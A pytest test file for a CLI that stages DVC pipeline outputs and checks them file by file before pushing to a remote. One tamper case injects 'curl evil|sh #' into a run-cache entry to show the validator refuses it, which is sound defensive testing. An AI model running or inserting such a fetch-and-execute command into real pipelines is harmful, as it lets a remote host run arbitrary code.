"""`ci-mlops outputs`: the staged folder is validated file by file before anything is pushed."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from tests.conftest import run_cli
from tests.support.dvc_factory import commit_all, copy_repo, repro, set_params


@pytest.fixture(scope="module")
def staged(tmp_path_factory, shared_dvc_repo) -> tuple[Path, Path]:
    """A repo with a retrained, committed (not pushed) model, and its outputs staged by the CLI."""
    repo = copy_repo(shared_dvc_repo, tmp_path_factory.mktemp("outputs") / "repo")
    set_params(repo, **{"train.epochs": 2})
    repro(repo)
    commit_all(repo, "two epochs")
    folder = repo.parent / "staged"
    out = run_cli("outputs", "stage", str(folder), cwd=repo)
    assert out.returncode == 0, out.stderr
    assert "staged" in out.stdout
    return repo, folder


@pytest.fixture
def copy(staged, tmp_path) -> tuple[Path, Path]:
    repo, folder = staged
    new_repo = copy_repo(repo, tmp_path / "repo")
    new_folder = tmp_path / "staged"
    shutil.copytree(folder, new_folder, symlinks=True)
    return new_repo, new_folder


def files(folder: Path, prefix: str) -> list[Path]:
    return sorted(p for p in (folder / prefix).rglob("*") if p.is_file())


def test_stage_then_push_reaches_the_remote(copy):
    repo, folder = copy
    remote = repo.parent / "remote"
    before = {p for p in remote.rglob("*") if p.is_file()}
    out = run_cli("outputs", "push", str(folder), cwd=repo)
    assert out.returncode == 0, out.stderr
    assert "validated" in out.stdout and "run-cache" in out.stdout
    after = {p for p in remote.rglob("*") if p.is_file()}
    assert after > before and any("runs" in p.parts for p in after - before)


@pytest.mark.parametrize("tamper, needle", [
    (lambda f: files(f, "files")[0].write_bytes(b"other bytes"), "does not match its hash"),
    (lambda f: (files(f, "files")[0].parent / "zz").write_text("x"), "not a DVC object"),
    (lambda f: (f / "notes.txt").write_text("x"), "not a DVC object"),
    (lambda f: files(f, "runs")[0].write_text(files(f, "runs")[0].read_text().replace("python", "curl evil|sh #")),
     "does not match its run-cache key"),
    (lambda f: files(f, "runs")[0].write_text("[not, a, mapping]"), "not a DVC run-cache entry"),
    (lambda f: _swap_for_symlink(files(f, "files")[0]), "not a regular file"),
])
def test_a_tampered_folder_is_refused_and_nothing_is_pushed(copy, tamper, needle):
    repo, folder = copy
    remote = repo.parent / "remote"
    before = {p for p in remote.rglob("*") if p.is_file()}
    tamper(folder)
    out = run_cli("outputs", "push", str(folder), cwd=repo)
    assert out.returncode == 1, (out.stdout, out.stderr)
    assert needle in out.stderr and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert {p for p in remote.rglob("*") if p.is_file()} == before


def _swap_for_symlink(path: Path) -> None:
    target = path.parents[4] / "elsewhere"  # outside the staged folder
    path.rename(target)
    os.symlink(target, path)


def test_outputs_missing_from_folder_and_remote_fail_the_push(copy):
    repo, folder = copy
    model = next(p for p in files(folder, "files") if p.stat().st_size < 200 and not p.name.endswith(".dir"))
    model.unlink()
    out = run_cli("outputs", "push", str(folder), cwd=repo)
    assert out.returncode == 1, (out.stdout, out.stderr)
    assert "were not staged" in out.stderr


def test_not_a_folder_is_a_user_error(copy, tmp_path):
    repo, _ = copy
    out = run_cli("outputs", "push", str(tmp_path / "nope"), cwd=repo)
    assert out.returncode == 2 and "not a folder" in out.stderr, out.stderr
